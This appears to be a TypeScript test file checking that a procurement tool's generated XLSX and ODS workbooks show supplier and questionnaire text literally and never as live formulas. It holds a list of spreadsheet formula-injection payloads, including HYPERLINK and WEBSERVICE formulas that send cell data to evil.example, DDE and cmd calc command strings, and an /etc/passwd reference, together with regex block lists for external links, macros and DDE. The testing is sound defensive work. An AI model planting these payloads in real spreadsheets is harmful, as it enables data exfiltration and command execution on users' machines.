import { describe, expect, it } from 'vitest';
import { decideContest } from '../evaluation/outcome';
import type { Question } from '../questionnaire/document';
import { aContest, aDocument, aGate, aSection, aTextQuestion } from '../testing/contests';
import { everyKind } from '../testing/every-kind';
import { insideOds } from '../testing/ods';
import { partsOf, sheetsOf } from '../testing/xlsx';
import { literal } from './cells';
import { evaluationMatrix } from './evaluation-matrix';
import { markingScheme } from './marking-scheme';
import type { Workbook } from './model';
import { renderWorkbook } from './render';
import { renderOds } from './render-ods';
import { supplierWorkbook } from './supplier-workbook';

/** What people have made spreadsheets run, and what tries to look like something else. */
const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u0000=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
  '%0A=',
];
const bodies = [
  '1+1',
  'HYPERLINK("http://evil.example/?x="&A1,"click")',
  "cmd|' /C calc'!A0",
  "SUM(1+9)*cmd|' /C calc'!A0",
  'IMPORTXML("http://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
  "'file:///etc/passwd'#$passwd.A1",
  'WEBSERVICE("http://evil.example/"&A1)',
];
const payloads: string[] = [
  ...starts.map((start) => `${start}${bodies[0]}`),
  ...bodies.flatMap((body) => [`=${body}`, `+${body}`, `@${body}`]),
  '_x003D_1+1',
  '_x000D_=1',
  '</t></si><si><t>=1+1</t>',
  '{"formula":"1+1"}',
  ']]>&lt;f&gt;1+1',
  '\u202e=1+1',
  '=1+1'.repeat(9_000),
];

const formulasOf = (book: Workbook): number =>
  book.sheets.flatMap(({ rows }) => rows.flat()).filter((cell) => 'formula' in cell).length;

/** Formulas that the file holds, and every text that any cell shows. */
const looked = async (book: Workbook) => {
  const bytes = await renderWorkbook(book);
  const parts = await partsOf(bytes);
  const formulas = [...parts]
    .filter(([name]) => name.startsWith('xl/worksheets/sheet'))
    .reduce((sum, [, xml]) => sum + (xml.match(/<f[ >]/g)?.length ?? 0), 0);
  const all = [...parts.values()].join('\n');
  const texts = new Set((await sheetsOf(bytes)).flatMap(({ cells }) => [...cells.values()].map(({ value }) => value)));
  return { formulas, all, texts, names: [...parts.keys()] };
};

/** The same of the ODS. */
const lookedOds = async (book: Workbook) => {
  const bytes = await renderOds(book);
  const parts = await partsOf(bytes);
  const cells = (await insideOds(bytes)).flatMap((sheet) => [...sheet.cells.values()]);
  const all = [...parts.values()].join('\n');
  return {
    formulas: all.match(/table:formula=/g)?.length ?? 0,
    all,
    texts: new Set(cells.map(({ value }) => value)),
    names: [...parts.keys()],
  };
};

const isHarmless = ({ all, names }: { all: string; names: string[] }): void => {
  expect(
    all.match(
      /TargetMode="External"|<hyperlinks?[ >]|<ddeLink|<oleLink|vbaProject|xlink:|<text:a |<script|<table:dde|<table:table-source|<draw:/gi,
    ),
  ).toBe(null);
  expect(names.filter((name) => /externalLinks|embeddings|vbaProject|customXml|drawing/i.test(name))).toEqual([]);
};

describe('text of suppliers in the evaluation matrix', () => {
  it('is tried with at least 40 payloads', () => {
    expect(payloads.length).toBeGreaterThanOrEqual(40);
  });

  it('is shown literally as answer, reason and supplier name, and no formula is there but ours', async () => {
    const document = aDocument({
      sections: [aSection('s1', '100', [aGate('g'), aTextQuestion('q1', '60'), aTextQuestion('q2', '40')])],
    });
    const bids = payloads.map((payload, at) => ({
      bidder: `${payload.slice(0, 150)} ${at}`,
      answers: { g: 'yes', q1: payload, q2: `${payload} again` },
      marks: { q1: '4', q2: '2' },
      decisions: { g: at % 5 === 0 ? ('fail' as const) : ('pass' as const) },
    }));
    const contest = aContest(document, bids);
    const judged = decideContest(contest);
    if (!judged.ok) throw new Error(JSON.stringify(judged.faults));
    const book = evaluationMatrix({
      title: payloads[0] ?? '',
      reference: 'PRJ-1',
      version: 1,
      engineVersion: '1.0.0',
      asOf: '2027-02-12T09:00:00.000Z',
      isFinal: false,
      contest,
      outcome: judged.value,
      letters: {},
      gates: bids.map(({ bidder, decisions }) => ({ bidder, questionId: 'g', decision: decisions.g, reason: bidder })),
      agreed: bids.map(({ bidder, answers }) => ({ bidder, questionId: 'q1', how: 'moderated', reason: answers.q1 })),
      criteria: [],
    });
    for (const file of [await looked(book), await lookedOds(book)]) {
      expect(file.formulas).toBe(formulasOf(book));
      isHarmless(file);
      for (const { bidder } of bids) expect(file.texts).toContain(literal(bidder));
      for (const payload of payloads.filter(({ length }) => length < 30_000))
        expect(file.texts).toContain(literal(payload));
    }
  });
});

describe('texts of the questionnaire in the published workbooks', () => {
  const hostile = (document = everyKind()): typeof document => ({
    ...document,
    sections: document.sections.map((section, s) => ({
      ...section,
      title: { en: payloads[s] ?? '=1' },
      questions: section.questions.map(
        (question, q): Question => ({
          ...question,
          wording: { en: payloads[q % payloads.length] ?? '=1' },
          why: { en: payloads[(q + 9) % payloads.length] ?? '=1' },
          ref: `=R${q}`,
        }),
      ),
    })),
  });
  const facts = {
    title: '=1+1',
    reference: '=PRJ',
    authority: '@council',
    version: 1,
    documentHash: 'a'.repeat(64),
    publishedAt: '2026-12-01T09:00:00.000Z',
    document: hostile(),
  };

  it.each([
    ['marking scheme', markingScheme(facts)],
    [
      'supplier workbook',
      supplierWorkbook({ ...facts, deadline: '2027-01-22T12:00:00.000Z', receiving: 'hosted', scope: ['=1+1'] }),
    ],
  ])('are literal in the %s', async (_, book) => {
    for (const file of [await looked(book), await lookedOds(book)]) {
      expect(file.formulas).toBe(formulasOf(book));
      isHarmless(file);
      expect([...file.texts].filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
    }
  });
});
